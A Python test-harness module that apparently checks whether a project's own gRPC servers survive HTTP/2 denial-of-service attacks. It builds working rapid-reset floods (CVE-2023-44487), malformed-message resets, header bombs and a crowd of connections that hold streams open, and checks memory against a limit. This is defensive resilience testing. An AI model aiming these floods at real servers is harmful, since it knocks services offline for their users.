"""A peer that opens HTTP/2 streams and ends each at once.

Under TLS, with a certificate of its own. It reads what it is sent, and goes on
until all streams are sent or the connection ends.
"""

import select
import ssl
import struct

from harness import gated
from harness import raw_http2
from harness import run_file
from harness import wait

_CANCEL = struct.pack(">I", 8)
_BATCH = 500
_BOMB_HEADERS = 400  # Far more than the limit of a call.
_SEND_S = 2  # A connection that the program does not read is left so.
_PAUSE_S = 0.05  # A peer that cannot connect waits for so long.


def reset(number):
    """Ends stream `number` (CVE-2023-44487)."""
    return raw_http2.frame(raw_http2.RST_STREAM, 0, number, _CANCEL)


def request_and_reset(number):
    """A whole empty request: a call without streams comes to its handler."""
    return raw_http2.frame(raw_http2.DATA, raw_http2.END_STREAM, number,
                           raw_http2.message(b"")) + reset(number)


def hold(unused_number):
    """The stream stays open, without a request."""
    return b""


def bad_message(number):
    """A message that no version of gRPC has, so that the program ends the
    stream itself (CVE-2025-8671)."""
    return raw_http2.frame(raw_http2.DATA, 0, number, b"\x07" * 5)


def send(address, certificate, path, streams, end, bomb=False):
    """Returns how many streams were sent before the connection ended.

    `end`: one of those above. `bomb`: each stream has many headers of a byte
    each (CVE-2026-49975)."""
    headers = raw_http2.headers("https", path)
    if bomb:
        headers += raw_http2.repeated_header(_BOMB_HEADERS)
    try:
        with raw_http2.connect(address, certificate) as connection:
            connection.sendall(raw_http2.PREFACE +
                               raw_http2.frame(raw_http2.SETTINGS, 0, 0))
            connection.setblocking(False)
            for begin in range(0, streams, _BATCH):
                batch = b"".join(
                    raw_http2.frame(raw_http2.HEADERS, raw_http2.END_HEADERS,
                                    2 * i + 1, headers) + end(2 * i + 1)
                    for i in range(begin, min(begin + _BATCH, streams)))
                if not _exchange(connection, batch):
                    return begin
    except OSError:
        return 0
    return streams


def flood(address, certificate, path, streams, end, connections, bomb=False):
    """Sends on up to `connections`, each once the one before it has ended.

    Returns how many streams were sent."""
    left = streams
    for _ in range(connections):
        sent = send(address, certificate, path, left, end, bomb)
        left -= sent
        if left <= 0:
            break
        if sent == 0:
            select.select([], [], [], _PAUSE_S)
    return streams - left


class Crowd:
    """Connections, each with streams that stay open without a request.

    None acknowledges the program's SETTINGS, and none reads. `certificates` are
    used in turn; `headers`: how many of a byte each stream has besides."""

    def __init__(self, address, certificates, path, connections, streams,
                 headers=0):
        block = raw_http2.headers("https", path)
        if headers:
            block += raw_http2.repeated_header(headers)
        self._data = raw_http2.PREFACE + raw_http2.frame(
            raw_http2.SETTINGS, 0, 0) + b"".join(
                raw_http2.frame(raw_http2.HEADERS, raw_http2.END_HEADERS,
                                2 * i + 1, block) for i in range(streams))
        self._address = address
        self._certificates = certificates
        self._connections = connections
        self._held = []

    def attack(self):
        for i in range(self._connections):
            certificate = self._certificates[i % len(self._certificates)]
            try:
                connection = raw_http2.connect(self._address, certificate)
                self._held.append(connection)
                connection.settimeout(_SEND_S)
                connection.sendall(self._data)
            except OSError:
                pass  # The program shuts some.

    def close(self):
        for connection in self._held:
            connection.close()


def memory(process, name):
    """VmRSS or VmHWM of a process, in bytes."""
    with open("/proc/%d/status" % process.pid, encoding="ascii") as file:
        return next(int(line.split()[1]) << 10 for line in file
                    if line.startswith(name + ":"))


def memory_max(idle, more=64 << 20):
    """What an attack on a program that had `idle` bytes may make of it."""
    return 1.5 * idle + more


class AttackTest(gated.GatedTest):
    """A run whose enrolled islands attack its programs."""

    def enrol(self, *islands):
        """Returns the certificates of volunteer-0, volunteer-1, ..."""
        self.start(server_count=1)
        self.create_run(run_file.ELASTIC)
        volunteers = ["volunteer-%d" % i for i in range(len(islands))]
        for volunteer, island in zip(volunteers, islands):
            self.cluster.start_volunteer(
                volunteer, self.token(), arguments=["--island-id=" + island])
        wait.until("they are members",
                   lambda: len(self.cluster.islands()) == len(islands))
        return [self.enrolled(volunteer) for volunteer in volunteers]

    def revoke(self, volunteer, island):
        self.cluster.may_end(volunteer)
        self.cluster.run_cli("island", "revoke", "run", "e-" + island, check=0)
        self.cluster.processes[volunteer].wait()

    def restart(self, program):
        """Returns the address of the fresh program, once it serves."""
        cluster = self.cluster
        cluster.kill(program)
        cluster.restart(program)
        address = (cluster.coordinator_address if program == "coordinator"
                   else cluster.server_address(program))
        wait.until("%s serves" % program, lambda: cluster.retry(
            cluster.client(address).health) == 1)
        return address


def _exchange(connection, data):
    """Sends `data`, and reads meanwhile. False: the connection has ended."""
    while data:
        readable, writable, _ = select.select([connection], [connection], [],
                                              wait.PATIENCE_S)
        if not readable and not writable:
            return False
        try:
            if readable and not _drain(connection):
                return False
            data = data[connection.send(data):]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return False
    return True


def _drain(connection):
    try:
        while True:
            if not connection.recv(1 << 16):
                return False
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return True
